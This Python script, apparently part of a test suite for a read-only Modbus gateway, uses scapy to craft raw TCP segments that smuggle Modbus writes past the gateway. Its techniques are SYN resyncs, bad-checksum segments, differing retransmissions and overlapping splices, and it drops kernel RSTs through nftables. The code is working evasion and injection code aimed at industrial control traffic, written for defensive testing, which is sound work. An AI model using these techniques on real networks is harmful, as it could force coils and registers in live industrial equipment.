#!/usr/bin/env python3
"""Raw-socket TCP attacker for the normalizer tests (scapy builds the packets).

Plays a client inside a read-only conduit that controls its own TCP: it does
its own handshake, sends allowed reads, and then tries to make the server's
TCP deliver a write to the Modbus server while the gateway sees only reads.

    tcp_inject.py --src IP --dst IP [--dport 502] [--first-port N] [--seed N] SCENARIO...
    tcp_inject.py --src IP --dst IP --sport 502 --probe PORT,PORT,... [--wait S]

Scenarios (each on a connection of its own; see scenario() below):
    syn-resync-fc6          SYN 6 bytes behind the server's RCV.NXT, then a segment
                            that is two FC 3 reads from its first byte and FC 6
                            "write register 0 = 6" after the 6 bytes the server has
    syn-resync-fc15         the same, FC 15 "force coils 0-5 = 0b000011"
    badsum-syn-resync-fc15  the same with a SYN whose TCP checksum is wrong,
                            FC 15 forcing coil 2
    retransmit-different    a read with a bad checksum (the server drops it, a
                            gateway that does not check may judge it), then a write
                            (FC 6 register 7 = 0x0BAD) in the same sequence range
    splice                  two reads with bad checksums, then one segment over
                            both: the first read again, then FC 5 coil 9 ON
    partial-splice          two reads with a bad checksum as one segment, then
                            FC 6 register 10 = 0xD00D over its second half, then
                            the first half: the server joins read and write

After each attack a fence: a one-byte keep-alive carrying the byte just below
the server's RCV.NXT. The server's answer tells, in order with everything sent
before, how far its stream got (or a RST says the connection was reset); see
Conn.fence().

One JSON line per scenario on stdout:
    {"scenario": ..., "sport": ..., "read": [0, 1], "attack_bytes": 24,
     "accepted": 18, "reset": false}
accepted: attack bytes the server's TCP took (its ACK past the fence point);
reset: a RST came back instead. --probe sends one SYN to each port and
prints one line per port:
    {"probe": PORT, "sport": 502, "answer": "syn-ack" | "rst" | "none"}

The kernel of this namespace has no socket for these connections and would
reset them: an nftables table here drops every RST it sends (packets from
this tool carry a mark and are spared), removed on exit. Exit status 0 when every step could be
carried out (whatever the server did), 1 when the connection could not even be
set up (no SYN-ACK, the first read unanswered).
"""

from __future__ import annotations

import argparse
import json
import os
import random
import select
import socket
import struct
import subprocess
import sys
import time

# scapy==2.8.0, installed by `cargo xtask setup`.
from scapy.layers.inet import IP, TCP

# Marks our own packets so the RST filter spares them.
MARK = 0x1BA1
NFT_TABLE = "bessai_inject"
# How long any one answer may take: a namespace on one machine answers in
# microseconds, so this only bounds a failure.
ANSWER_TIMEOUT = 3.0
# How long the server must stay silent after answering a fence: it answers
# in microseconds here, so this only has to outlast scheduling delays.
QUIET = 0.2
UNIT = 1


def mbap(tid: int, pdu: bytes, unit: int = UNIT) -> bytes:
    return struct.pack(">HHHB", tid, 0, len(pdu) + 1, unit) + pdu


def read_holding(tid: int, addr: int, qty: int, fc: int = 3) -> bytes:
    return mbap(tid, struct.pack(">BHH", fc, addr, qty))


def write_register(tid: int, addr: int, value: int) -> bytes:
    return mbap(tid, struct.pack(">BHH", 6, addr, value))


def write_coil(tid: int, addr: int, on: bool) -> bytes:
    return mbap(tid, struct.pack(">BHH", 5, addr, 0xFF00 if on else 0))


class Reset(Exception):
    """The connection was reset (by the server or by the gateway for it)."""


class Conn:
    def __init__(self, src: str, dst: str, dport: int, sport: int | None = None):
        self.src, self.dst, self.dport = src, dst, dport
        # Below Linux's ephemeral range (32768-60999): a later ordinary
        # client in this namespace never picks the 4-tuple of a connection
        # the server may still hold open for us.
        self.sport = sport or random.randint(20000, 32767)
        self.isn = random.getrandbits(32)
        self.snd_nxt = self.isn  # next sequence number to send
        self.rcv_nxt = 0  # next server byte expected
        self.sent = b""  # every client byte sent in order (for keep-alives)
        self.tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.tx.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, MARK)
        self.rx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)

    def close(self) -> None:
        self.tx.close()
        self.rx.close()

    def send(self, flags: str, seq: int, payload: bytes = b"", bad_checksum: bool = False) -> None:
        ack = self.rcv_nxt if "A" in flags else 0
        pkt = IP(src=self.src, dst=self.dst) / TCP(
            sport=self.sport, dport=self.dport, flags=flags, seq=seq % 2**32, ack=ack, window=65535
        )
        if payload:
            pkt = pkt / payload
        raw = bytearray(bytes(pkt))  # scapy fills in the checksums
        if bad_checksum:
            ihl = (raw[0] & 0x0F) * 4
            good = struct.unpack_from(">H", raw, ihl + 16)[0]
            struct.pack_into(">H", raw, ihl + 16, good ^ 0x5A5A)
        self.tx.sendto(bytes(raw), (self.dst, 0))

    def recv(self, timeout: float = ANSWER_TIMEOUT) -> TCP | None:
        """The next segment of this connection from the server, or None."""
        deadline = time.monotonic() + timeout
        while (left := deadline - time.monotonic()) > 0:
            ready, _, _ = select.select([self.rx], [], [], left)
            if not ready:
                break
            ip = IP(self.rx.recv(65535))
            if ip.src != self.dst or not ip.haslayer(TCP):
                continue
            tcp = ip[TCP]
            if tcp.sport == self.dport and tcp.dport == self.sport:
                return tcp
        return None

    def handshake(self) -> None:
        self.send("S", self.isn)
        while True:
            seg = self.recv()
            if seg is None:
                raise RuntimeError(f"no SYN-ACK from {self.dst}:{self.dport}")
            if seg.flags.R:
                raise Reset("the SYN was refused")
            if seg.flags.S and seg.flags.A and seg.ack == (self.isn + 1) % 2**32:
                break
        self.rcv_nxt = (seg.seq + 1) % 2**32
        self.snd_nxt = self.isn + 1
        self.send("A", self.snd_nxt)

    def push(self, payload: bytes) -> int:
        """Sends `payload` as new data; returns its first sequence number."""
        seq = self.snd_nxt
        self.send("PA", seq, payload)
        self.snd_nxt += len(payload)
        self.sent += payload
        return seq

    def take_data(self, seg: TCP) -> bytes:
        """In-order server data of `seg`, acknowledged."""
        data = bytes(seg.payload)
        if seg.flags.R:
            raise Reset("RST from the server side")
        if data and seg.seq == self.rcv_nxt:
            self.rcv_nxt = (self.rcv_nxt + len(data)) % 2**32
            self.send("A", self.snd_nxt)
            return data
        return b""

    def transact(self, adu: bytes) -> bytes:
        """Sends one request ADU, returns the response ADU."""
        self.push(adu)
        got = b""
        while len(got) < 6 or len(got) < 6 + struct.unpack_from(">H", got, 4)[0]:
            seg = self.recv()
            if seg is None:
                raise RuntimeError(f"no answer to {adu.hex()}")
            got += self.take_data(seg)
        return got

    def fence(self) -> int:
        """Bytes past snd_nxt that the server's TCP holds. Sends a keep-alive
        with the last byte sent before snd_nxt: the server answers it at once
        with an ACK of its RCV.NXT, after everything sent before it (same
        path, in order). Earlier segments may have drawn answers of their own
        (a challenge ACK, a duplicate ACK for out-of-order data), so every
        answer is read until the server has been quiet for QUIET seconds, and
        the highest ACK counts (a server's ACK never goes back)."""
        self.send("A", self.snd_nxt - 1, self.sent[-1:])
        highest = None
        while (seg := self.recv(QUIET if highest is not None else ANSWER_TIMEOUT)) is not None:
            self.take_data(seg)  # raises on a RST
            if seg.flags.A and not seg.flags.S:
                ahead = (seg.ack - self.snd_nxt) % 2**32
                if ahead < 2**31 and (highest is None or ahead > highest):
                    highest = ahead
        if highest is None:
            raise RuntimeError("no answer to the keep-alive fence")
        return highest


def registers(rsp: bytes) -> list[int]:
    count = rsp[8]
    return list(struct.unpack_from(f">{count // 2}H", rsp, 9))


def open_with_read(c: Conn) -> list[int]:
    """Handshake and one allowed read (holding 0-1), answered."""
    c.handshake()
    return registers(c.transact(read_holding(1, 0, 2)))


def syn_resync(c: Conn, payload: bytes, back: int, bad_syn: bool) -> int:
    """A SYN that would put a tracker's expected sequence `back` bytes behind
    the server's RCV.NXT, then `payload` from there; returns its length."""
    rcv_nxt = c.snd_nxt
    c.send("S", rcv_nxt - back - 1, bad_checksum=bad_syn)
    c.send("PA", rcv_nxt - back, payload)
    # Whatever the server took of it lies past its old RCV.NXT; the fence
    # measures from snd_nxt, so account for the bytes it already had.
    return len(payload) - back


def resync_fc6() -> bytes:
    # From byte 0: FC 3 read 0 x6 (tid 2), FC 3 read 0 x6 (tid 0x0106).
    # From byte 6: tid 0x0103, proto 0, len 6, unit 1, FC 6, register 0, value 6.
    return read_holding(2, 0, 6) + read_holding(0x0106, 0, 6)


def resync_fc15(second_fc: int) -> bytes:
    # From byte 0: FC 3 read 0 x8 (tid 2), FC `second_fc` read 0 x6 (tid 0x010F).
    # From byte 6: tid 0x0103, proto 0, len 8, unit 1, FC 15, coil 0, 6 coils,
    # 1 byte: `second_fc` (3: coils 0 and 1 on; 4: coil 2 on).
    return read_holding(2, 0, 8) + read_holding(0x010F, 0, 6, fc=second_fc)


def scenario(name: str, c: Conn) -> dict:
    line: dict = {"scenario": name, "sport": c.sport}
    line["read"] = open_with_read(c)
    if name.startswith(("syn-resync", "badsum-syn-resync")):
        payload = {
            "syn-resync-fc6": resync_fc6,
            "syn-resync-fc15": lambda: resync_fc15(3),
            "badsum-syn-resync-fc15": lambda: resync_fc15(4),
        }[name]()
        line["attack_bytes"] = syn_resync(c, payload, 6, name.startswith("badsum"))
    elif name == "retransmit-different":
        seq = c.snd_nxt
        c.send("PA", seq, read_holding(2, 0, 2), bad_checksum=True)
        c.send("PA", seq, write_register(2, 7, 0x0BAD))
        line["attack_bytes"] = 12
    elif name == "splice":
        seq = c.snd_nxt
        first, second = read_holding(2, 0, 2), read_holding(3, 2, 2)
        c.send("PA", seq, first, bad_checksum=True)
        c.send("PA", seq + 12, second, bad_checksum=True)
        c.send("PA", seq, first + write_coil(3, 9, True))
        line["attack_bytes"] = 24
    elif name == "partial-splice":
        seq = c.snd_nxt
        first, second = read_holding(2, 0, 2), read_holding(3, 2, 2)
        c.send("PA", seq, first + second, bad_checksum=True)
        c.send("PA", seq + 12, write_register(3, 10, 0xD00D))
        c.send("PA", seq, first)
        line["attack_bytes"] = 24
    else:
        raise ValueError(f"unknown scenario {name}")
    try:
        line["accepted"] = c.fence()
        line["reset"] = False
    except Reset:
        line["accepted"] = None
        line["reset"] = True
    return line


def probe(src: str, dst: str, sport: int, ports: list[int], wait: float) -> list[dict]:
    """Can `src:sport` open a connection to `dst` on each of `ports`? One SYN
    to each, all at once; then the answers, until every port has answered
    or `wait` seconds have passed (silence is the answer when a SYN never
    arrives, so there is no event to wait for instead)."""
    conns = {port: Conn(src, dst, port, sport) for port in ports}
    answers = {port: "none" for port in ports}
    try:
        for c in conns.values():
            c.send("S", c.isn)
        rx = next(iter(conns.values())).rx
        deadline = time.monotonic() + wait
        while "none" in answers.values() and (left := deadline - time.monotonic()) > 0:
            if not select.select([rx], [], [], left)[0]:
                break
            ip = IP(rx.recv(65535))
            if ip.src != dst or not ip.haslayer(TCP) or ip[TCP].dport != sport:
                continue
            tcp = ip[TCP]
            if tcp.sport in answers and answers[tcp.sport] == "none":
                if tcp.flags.R:
                    answers[tcp.sport] = "rst"
                elif tcp.flags.S and tcp.flags.A:
                    answers[tcp.sport] = "syn-ack"
        return [{"probe": port, "sport": sport, "answer": answers[port]} for port in ports]
    finally:
        for c in conns.values():
            c.close()


def nft(*args: str) -> None:
    subprocess.run(["nft", *args], check=True)


def drop_kernel_resets() -> None:
    nft("add", "table", "ip", NFT_TABLE)
    nft(
        "add", "chain", "ip", NFT_TABLE, "out",
        "{ type filter hook output priority 0; policy accept; }",
    )
    nft("add", "rule", "ip", NFT_TABLE, "out", "tcp", "flags", "rst", "meta", "mark", "!=", str(MARK), "drop")


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--src", required=True)
    parser.add_argument("--dst", required=True)
    parser.add_argument("--dport", type=int, default=502)
    parser.add_argument("--sport", type=int, help="source port of --probe")
    parser.add_argument("--probe", help="comma-separated destination ports to send a SYN to")
    parser.add_argument("--wait", type=float, default=0.5, help="--probe: seconds to wait for answers")
    parser.add_argument("--seed", type=int, default=None, help="for ISNs (and ports unless --first-port)")
    parser.add_argument(
        "--first-port", type=int, default=None,
        help="source port of the first scenario, the next one for each further scenario",
    )
    parser.add_argument("scenarios", nargs="*")
    args = parser.parse_args(argv)
    random.seed(args.seed if args.seed is not None else os.getpid())
    if args.probe:
        ports = [int(p) for p in args.probe.split(",")]
        sport = args.sport or random.randint(20000, 32767)
        for line in probe(args.src, args.dst, sport, ports, args.wait):
            print(json.dumps(line), flush=True)
        return 0
    drop_kernel_resets()
    try:
        for i, name in enumerate(args.scenarios):
            c = Conn(args.src, args.dst, args.dport, args.first_port and args.first_port + i)
            try:
                print(json.dumps(scenario(name, c)), flush=True)
            except (RuntimeError, Reset) as e:
                print(f"tcp_inject.py: {name}: {e}", file=sys.stderr)
                return 1
            finally:
                c.close()
    finally:
        subprocess.run(["nft", "delete", "table", "ip", NFT_TABLE], check=False)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
